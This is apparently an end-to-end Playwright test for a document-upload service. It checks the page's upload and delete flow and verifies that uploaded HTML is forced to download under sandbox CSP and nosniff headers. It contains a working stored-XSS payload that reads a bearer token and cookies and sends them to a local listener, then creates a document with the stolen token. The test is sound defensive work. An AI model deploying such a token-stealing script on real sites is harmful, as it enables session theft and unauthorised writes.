// The HTML page in a real browser (headless Chromium via playwright-core):
// the list shows what the API holds, the form uploads with the token and a
// progress bar, and Delete removes a row, all under the page's CSP (no inline
// script).  Then the stored-XSS proof (DESIGN.md "Serving user content"): a
// writer uploads an HTML document whose script reads the token from
// sessionStorage and document.cookie, sends them to a listener this script
// runs, and uses the token against the API to create a document named
// STOLEN-NAME.  Clicked in the tab that holds the token, and opened by
// navigating to its URL, it must download and never run: the listener hears
// nothing and tests/e2e/browser.sh finds no STOLEN-NAME row.  Two controls
// show the proof can fail: the same HTML rendered without bindery's headers
// (served by the listener) does reach the listener, and the same script run
// on the page's origin does read the token and create a document.
// Prints one line per check, "pass<TAB>what" or "fail<TAB>what";
// tests/e2e/browser.sh turns them into TAP with tests/lib/tap.sh.
// usage: node browser.mjs URL TOKEN FILE STOLEN-NAME
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { chromium } from 'playwright-core';

const [url, token, file, stolenName] = process.argv.slice(2);
const ok = (cond, what) => console.log(`${cond ? 'pass' : 'fail'}\t${what.replace(/[\t\n]/g, ' ')}`);

// The thief's listener: records every request that reaches it; it also
// serves the evil document itself, without bindery's headers, for control 1.
const heard = [];
let evilHtml = '';
const listener = createServer((req, res) => {
	if (req.url === '/evil.html') {
		res.writeHead(200, { 'Content-Type': 'text/html' });
		res.end(evilHtml);
		return;
	}
	let body = '';
	req.on('data', c => { body += c; });
	req.on('end', () => {
		heard.push(`${req.method} ${req.url} ${body}`);
		res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
		res.end();
	});
});
await new Promise(r => listener.listen(0, '127.0.0.1', r));
const sink = `http://127.0.0.1:${listener.address().port}`;
// The thief's script, one async expression so control 2 can await it: read
// the token and the cookies, send them off three ways, write with the token.
const thief = name => `(async () => {
	let t, c;
	try { t = sessionStorage.getItem("bindery-token"); } catch (e) { t = "denied:" + e.name; }
	try { c = document.cookie; } catch (e) { c = "denied:" + e.name; }
	const q = "?t=" + encodeURIComponent(t) + "&c=" + encodeURIComponent(c) +
		"&origin=" + encodeURIComponent(location.origin);
	try { navigator.sendBeacon("${sink}/beacon" + q, String(t)); } catch (e) {}
	new Image().src = "${sink}/img" + q;
	fetch("${sink}/fetch" + q, { method: "POST", mode: "no-cors", body: String(t) }).catch(() => {});
	if (!t || t.startsWith("denied:")) return "no token";
	const r = await fetch("/documents?name=${name}", { method: "POST",
		headers: { "Authorization": "Bearer " + t, "Content-Type": "text/plain" }, body: "stolen" });
	return r.status + " " + await r.text();
})()`;
evilHtml = `<!doctype html><title>evil</title><script>${thief(stolenName)}</script>\n`;

const browser = await chromium.launch({
	executablePath: process.env.BINDERY_TEST_CHROMIUM || '/usr/bin/chromium',
	args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
		'--disable-background-networking', '--disable-component-update', '--disable-sync'],
});
try {
	const page = await browser.newPage();
	const name = `browser-${process.pid}.txt`;
	const cspErrors = [];
	page.on('console', m => { if (/Content Security Policy/i.test(m.text())) cspErrors.push(m.text()); });
	await page.goto(url + '/');
	ok((await page.title()) === 'bindery', 'the page loads');
	await page.fill('input[name=name]', name);
	await page.setInputFiles('input[name=file]', file);
	await page.fill('#token', token);
	const created = page.waitForResponse(r => r.url().endsWith('/documents') && r.request().method() === 'POST');
	await page.click('button:has-text("Upload")');
	const resp = await created;
	ok(resp.status() === 201, `the form's upload is 201 (${resp.status()})`);
	const appears = (sel, state) =>
		page.waitForSelector(sel, { state, timeout: 10000 }).then(() => true, () => false);
	ok(await appears(`a:has-text("${name}")`, 'attached'), 'after the upload the page lists the document');
	const row = page.locator('tr', { has: page.locator(`a:has-text("${name}")`) });
	const href = await row.locator('a').getAttribute('href');
	const got = await page.evaluate(async h => (await fetch(h)).text(), href);
	ok(got.length > 0 && got === readFileSync(file, 'utf8'),
	   'its link downloads the same bytes');
	const deleted = page.waitForResponse(r => r.request().method() === 'DELETE');
	await row.locator('button:has-text("Delete")').click();
	ok((await deleted).status() === 204, 'Delete answers 204');
	ok(await appears(`a:has-text("${name}")`, 'detached'), 'the row is gone after the reload');
	await page.fill('#token', 'not-a-token-at-all-0000');
	await page.setInputFiles('input[name=file]', file);
	await page.click('button:has-text("Upload")');
	await page.waitForFunction(() => document.getElementById('msg').textContent.length > 0, null, { timeout: 10000 });
	ok(/bearer token|authentication/.test(await page.textContent('#msg')), 'a wrong token shows the error message');
	ok(cspErrors.length === 0, `the page breaks none of its own CSP (${cspErrors.join('; ')})`);

	// Control 1: rendered without bindery's headers, the evil HTML runs and
	// reaches the listener (so silence below means it never ran).
	const bare = await browser.newPage();
	await bare.goto(sink + '/evil.html');
	await bare.waitForTimeout(1500);
	ok(heard.length > 0, `control: the evil HTML served without bindery's headers runs and reaches the listener (${heard.length} requests)`);
	await bare.close();
	heard.length = 0;

	// Stored XSS: a writer uploads HTML that steals the token of whoever opens it.
	const evilName = `browser-xss-${process.pid}.html`;
	const up = await page.evaluate(async ([n, t, body]) => {
		const r = await fetch('/documents?name=' + encodeURIComponent(n), { method: 'POST', body,
			headers: { 'Authorization': 'Bearer ' + t, 'Content-Type': 'text/html' } });
		return r.status;
	}, [evilName, token, evilHtml]);
	ok(up === 201, `an HTML document is uploaded (${up})`);
	await page.reload();
	await page.fill('#token', token);	/* the page keeps it in sessionStorage */
	ok(await page.evaluate(() => sessionStorage.getItem('bindery-token')) === token,
	   'the victim tab holds the token in sessionStorage');
	const evilHref = await page.locator(`a:has-text("${evilName}")`).getAttribute('href');

	// Control 2: the same script run on the page's origin reads the token and
	// writes with it (the page's own CSP keeps it from the listener).
	const control = await page.evaluate(thief(`${stolenName}-control`));
	ok(/^201 /.test(control), `control: the script run on the page's origin steals the token and creates a document (${control.split(' ')[0]})`);
	const controlId = (/"id":"([^"]+)"/.exec(control) || [])[1];
	if (controlId)
		await page.evaluate(async ([id, t]) => (await fetch('/documents/' + id,
			{ method: 'DELETE', headers: { 'Authorization': 'Bearer ' + t } })).status, [controlId, token]);
	await page.waitForTimeout(500);
	heard.length = 0;

	// The attack, clicked: a download, and the page stays.
	let download = page.waitForEvent('download', { timeout: 10000 }).then(d => d, () => null);
	await page.click(`a:has-text("${evilName}")`);
	let d = await download;
	ok(d !== null && d.suggestedFilename() === evilName,
	   `clicking it downloads ${d ? d.suggestedFilename() : 'nothing'} instead of rendering it`);
	// The attack, navigated to: the tab that holds the token opens its URL.
	download = page.waitForEvent('download', { timeout: 10000 }).then(d => d, () => null);
	const nav = await page.goto(new URL(evilHref, url + '/').href).then(() => 'rendered', e => e.message.split('\n')[0]);
	d = await download;
	ok(d !== null && nav !== 'rendered',
	   `navigating to its URL downloads it too (${d ? d.suggestedFilename() : 'no download'}; ${nav})`);
	await page.waitForTimeout(2000);	/* time for a script that did run to phone home */
	ok(heard.length === 0,
	   `the uploaded script never runs: the listener heard nothing (${heard.join(' | ').slice(0, 300)})`);
	ok(!page.url().includes('/content'), `the tab still shows the page (${page.url()})`);
	// Should a browser render it anyway, the sandbox CSP gives it an opaque
	// origin with no storage and nosniff keeps it from being taken for HTML it
	// is not labelled as: the browser must see all three headers.
	await page.goto(url + '/');
	const framed = await page.evaluate(async href => {
		const r = await fetch(href);
		return [r.headers.get('content-security-policy'), r.headers.get('x-content-type-options'),
			r.headers.get('content-disposition')];
	}, evilHref);
	ok(framed[0] === "sandbox; default-src 'none'" && framed[1] === 'nosniff' &&
	   /^attachment;/.test(framed[2] || ''),
	   `the browser sees attachment, the sandbox CSP and nosniff on it (${framed.join(' | ')})`);
	const gone = await page.evaluate(async ([h, t]) =>
		(await fetch(h.replace(/\/content$/, ''), { method: 'DELETE', headers: { 'Authorization': 'Bearer ' + t } })).status,
		[evilHref, token]);
	ok(gone === 204, `the HTML document is deleted again (${gone})`);
} catch (e) {
	ok(false, `browser step failed: ${e.message.split('\n')[0]}`);
} finally {
	await browser.close();
	listener.close();
}
process.exit(0);
